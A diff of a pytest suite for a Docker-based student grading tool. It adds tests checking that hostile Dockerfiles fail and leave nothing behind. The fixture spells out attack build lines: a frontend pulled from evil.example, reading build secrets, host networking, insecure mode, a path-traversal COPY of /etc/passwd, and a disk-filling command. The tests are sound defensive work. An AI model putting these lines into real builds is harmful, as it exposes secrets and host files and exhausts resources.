@@ -6,16 +6,13 @@ runs may be left in the engine or on the disk, and nothing that an attacker wrot
 
 import json
 import os
-import subprocess
-import threading
 
 import pytest
-from calling import COMMAND, ROOT
+from strangers import Watched, lay
 
 from workshop.course.lessons import find
-from workshop.engine import engine
 
-ONE = find("1")
+ONE, THREE = find("1"), find("3")
 HONEST = (ONE.solution / "app.py").read_text(encoding="utf-8")
 WRONG = HONEST.replace('"Hello World"', '"Hello Word"')  # fails test_the_first_page_says_hello_world
 FORGED = json.dumps(
@@ -131,62 +128,6 @@ found += [path for path in ("/var/run/docker.sock", "/run/docker.sock") if os.pa
 }
 
 
-def lay(folder, files):
-    for name, text in files.items():
-        path = folder / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text, encoding="utf-8")
-
-
-class Watched:
-    """A call of `class grade` in a state folder of its own: its document, its screen, and the ids of its runs."""
-
-    def __init__(self, folder, numbers, *args):
-        self.state, self.out = folder / "state", folder / "out"
-        self.state.mkdir()
-        (self.state / "runs").mkdir()
-        self.runs, self._is_over = set(), threading.Event()
-        watcher = threading.Thread(target=self._watch)
-        watcher.start()
-        command = [
-            *COMMAND,
-            "class",
-            "grade",
-            str(folder / "in"),
-            "--lessons",
-            numbers,
-            "--out",
-            str(self.out),
-            "--json",
-            *args,
-        ]
-        env = {**os.environ, "WORKSHOP_STATE": str(self.state)}
-        self.done = subprocess.run(
-            command, capture_output=True, text=True, cwd=ROOT, env=env, timeout=560, check=False
-        )
-        self._is_over.set()
-        watcher.join()
-        assert self.done.returncode in (0, 3), self.done.stderr
-        self.document = json.loads(self.done.stdout)
-        self.verdicts = {row["student"]: row["verdict"] for row in self.document["rows"]}
-
-    def _watch(self):
-        while not self._is_over.wait(0.2):
-            self.runs |= {path.name for path in (self.state / "runs").iterdir()}
-
-    def feedback(self, student):
-        return (self.out / "feedback" / f"{student}.md").read_text(encoding="utf-8")
-
-    def leftovers(self):
-        """What the engine still has of these runs."""
-        return [
-            thing
-            for run in self.runs
-            for kind in (("ps", "-a"), ("network", "ls"), ("volume", "ls"), ("image", "ls"))
-            for thing in engine.must(engine.docker(*kind, "-q", "--filter", f"label=workshop.run={run}")).out.split()
-        ]
-
-
 @pytest.fixture(scope="module")
 def graded(has_engine, tmp_path_factory):
     """A class of attackers on lesson 1, with honest students before, among and after them."""
@@ -227,8 +168,7 @@ def test_a_wrong_answer_with_files_of_its_own_earns_what_it_is_worth(graded):
 
 def test_nothing_is_left(graded):
     assert graded.runs
-    assert graded.leftovers() == []
-    assert list((graded.state / "runs").iterdir()) == []
+    assert graded.left() == []
 
 
 def test_no_text_of_theirs_acts_on_a_page_or_a_screen(graded):
@@ -246,3 +186,45 @@ def test_no_text_of_theirs_acts_on_a_page_or_a_screen(graded):
 
 
 # What is handed in as an archive is in tests/unit/test_class_intake.py; what a compose file may say in tests/unit/test_compose_file.py.
+
+DOCKERFILE = (THREE.solution / "Dockerfile").read_text(encoding="utf-8")
+BUILDS = {
+    "a-frontend-of-ones-own": "# syntax=evil.example/frontend:1\n" + DOCKERFILE,
+    "from-another-student": DOCKERFILE.replace("python:3.13-slim", "workshop-0000000000-image-1"),
+    "mounts-a-secret": DOCKERFILE.replace(
+        "EXPOSE", "RUN --mount=type=secret,id=x,required=true cat /run/secrets/x\nEXPOSE"
+    ),
+    "mounts-ssh": DOCKERFILE.replace("EXPOSE", "RUN --mount=type=ssh,required=true true\nEXPOSE"),
+    "host-network": DOCKERFILE.replace("EXPOSE", "RUN --network=host true\nEXPOSE"),
+    "insecure": DOCKERFILE.replace("EXPOSE", "RUN --security=insecure true\nEXPOSE"),
+    "copies-from-outside": DOCKERFILE.replace("EXPOSE", "COPY ../../../etc/passwd /passwd\nEXPOSE"),
+    "builds-without-an-end": DOCKERFILE.replace("EXPOSE", "RUN sleep 100000\nEXPOSE"),
+    "fills-the-disk": DOCKERFILE.replace("EXPOSE", "RUN head -c 100G /dev/zero >/big\nEXPOSE"),
+    "onbuild": DOCKERFILE.replace("CMD", "ONBUILD RUN false\n# CMD"),
+}
+
+
+@pytest.fixture(scope="module")
+def built(has_engine, tmp_path_factory):
+    """A class of attackers on lesson 3, whose Dockerfiles are the attack."""
+    folder = tmp_path_factory.mktemp("builds")
+    others = {name: (THREE.solution / name).read_text(encoding="utf-8") for name in ("app.py", "requirements.txt")}
+    for name in ("aa-honest", "zz-honest"):
+        lay(folder / "in" / name, {**others, "Dockerfile": DOCKERFILE})
+    for name, text in BUILDS.items():
+        lay(folder / "in" / name, {**others, "Dockerfile": text})
+    os.environ["WORKSHOP_BUILD_LIMIT"] = "45"
+    try:
+        return Watched(folder, "3", "--trust-builds")
+    finally:
+        del os.environ["WORKSHOP_BUILD_LIMIT"]
+
+
+@pytest.mark.parametrize("name", BUILDS)
+def test_a_dockerfile_reaches_nothing(built, name):
+    assert built.verdicts[name] in ("failed", "unchecked")
+
+
+def test_honest_builds_beside_them_pass_and_nothing_is_left(built):
+    assert {built.verdicts[name] for name in ("aa-honest", "zz-honest")} == {"passed"}
+    assert built.left() == []
